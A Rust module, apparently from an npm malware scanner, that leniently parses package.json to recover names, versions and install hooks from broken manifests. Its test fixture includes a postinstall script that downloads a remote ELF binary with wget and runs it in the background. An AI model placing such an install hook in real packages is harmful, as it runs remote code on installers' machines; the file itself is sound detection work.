//! A lenient reading of `package.json`: malware authors ship broken JSON that npm still half
//! reads, so when strict parsing fails the fields that matter (name, version, lifecycle scripts)
//! are recovered with a tolerant scanner instead of giving up.

use std::collections::BTreeMap;

/// Lifecycle scripts that npm runs on `npm install` of the package (as a dependency or locally).
pub(crate) const INSTALL_HOOKS: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "prepare",
    "preprepare",
    "postprepare",
    "prepublish",
];

/// The parts of `package.json` the rules use.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Manifest {
    /// `name`.
    pub(crate) name: String,
    /// `version`.
    pub(crate) version: String,
    /// `scripts`, all of them.
    pub(crate) scripts: BTreeMap<String, String>,
    /// `(kind, name, spec)` for `dependencies`, `optionalDependencies`, `devDependencies`,
    /// `peerDependencies`.
    pub(crate) dependencies: Vec<(String, String, String)>,
    /// The raw text, for locating findings.
    pub(crate) raw: String,
    /// Whether strict JSON parsing succeeded.
    pub(crate) well_formed: bool,
}

impl Manifest {
    /// Reads a manifest from bytes; never fails (an empty manifest when nothing is recoverable).
    pub(crate) fn parse(bytes: &[u8]) -> Self {
        let raw = String::from_utf8_lossy(bytes).into_owned();
        match serde_json::from_str::<serde_json::Value>(&raw) {
            Ok(value) => Self::from_value(&value, raw),
            Err(_) => Self::recover(raw),
        }
    }

    fn from_value(value: &serde_json::Value, raw: String) -> Self {
        let text = |key: &str| {
            value
                .get(key)
                .and_then(serde_json::Value::as_str)
                .unwrap_or_default()
                .to_owned()
        };
        let mut scripts = BTreeMap::new();
        if let Some(object) = value.get("scripts").and_then(serde_json::Value::as_object) {
            for (key, script) in object.iter().take(1000) {
                if let Some(script) = script.as_str() {
                    scripts.insert(key.clone(), script.to_owned());
                }
            }
        }
        let mut dependencies = Vec::new();
        for kind in [
            "dependencies",
            "optionalDependencies",
            "devDependencies",
            "peerDependencies",
        ] {
            if let Some(object) = value.get(kind).and_then(serde_json::Value::as_object) {
                for (name, spec) in object.iter().take(10_000) {
                    if let Some(spec) = spec.as_str() {
                        dependencies.push((kind.to_owned(), name.clone(), spec.to_owned()));
                    }
                }
            }
        }
        Self {
            name: text("name"),
            version: text("version"),
            scripts,
            dependencies,
            raw,
            well_formed: true,
        }
    }

    /// Tolerant scan for `"key": "value"` pairs of interest in broken JSON.
    fn recover(raw: String) -> Self {
        let mut manifest = Self {
            raw: raw.clone(),
            ..Self::default()
        };
        let mut rest = raw.as_str();
        let mut guard = 0;
        while let Some(start) = rest.find('"') {
            guard += 1;
            if guard > 100_000 {
                break;
            }
            let after = &rest[start + 1..];
            let Some((key, after_key)) = read_json_string(after) else {
                break;
            };
            let trimmed = after_key.trim_start();
            if let Some(value_part) = trimmed.strip_prefix(':') {
                let value_part = value_part.trim_start();
                if let Some(value_body) = value_part.strip_prefix('"')
                    && let Some((value, after_value)) = read_json_string(value_body)
                {
                    if after_value.trim_start().starts_with(':') {
                        // `"scripts": "test": "…"`: the "value" is really the next key.
                        rest = value_part;
                        continue;
                    }
                    match key.as_str() {
                        "name" if manifest.name.is_empty() => manifest.name = value,
                        "version" if manifest.version.is_empty() => manifest.version = value,
                        hook if INSTALL_HOOKS.contains(&hook)
                            || hook.starts_with("pre")
                            || hook.starts_with("post") =>
                        {
                            manifest.scripts.insert(key.clone(), value);
                        }
                        _ => {}
                    }
                    rest = after_value;
                    continue;
                }
            }
            rest = after_key;
        }
        manifest
    }

    /// The install-time hooks present, in npm's run order.
    pub(crate) fn install_scripts(&self) -> impl Iterator<Item = (&str, &str)> {
        INSTALL_HOOKS.iter().filter_map(|hook| {
            self.scripts
                .get(*hook)
                .map(|script| (*hook, script.as_str()))
        })
    }
}

/// Reads a JSON string body (after the opening quote); returns the unescaped value and the rest.
fn read_json_string(input: &str) -> Option<(String, &str)> {
    let mut value = String::new();
    let mut characters = input.char_indices();
    while let Some((index, character)) = characters.next() {
        match character {
            '"' => return Some((value, &input[index + 1..])),
            '\\' => match characters.next()?.1 {
                'n' => value.push('\n'),
                't' => value.push('\t'),
                other => value.push(other),
            },
            other => value.push(other),
        }
        if value.len() > 1 << 20 {
            return None;
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strict_and_broken_manifests() {
        let strict = Manifest::parse(br#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node x.js"},"dependencies":{"b":"^1"}}"#);
        assert!(strict.well_formed);
        assert_eq!(
            strict.install_scripts().collect::<Vec<_>>(),
            [("postinstall", "node x.js")]
        );
        assert_eq!(
            strict.dependencies,
            [("dependencies".to_owned(), "b".to_owned(), "^1".to_owned())]
        );
        let broken = Manifest::parse(br#"{"name": "evil", "scripts": "test": "x", "postinstall": "wget http://h/a.elf && ./a.elf &""repo": {"#);
        assert!(!broken.well_formed);
        assert_eq!(broken.name, "evil");
        assert_eq!(
            broken.scripts.get("postinstall").map(String::as_str),
            Some("wget http://h/a.elf && ./a.elf &")
        );
        assert_eq!(Manifest::parse(b"\xff\xfe").name, "");
    }
}
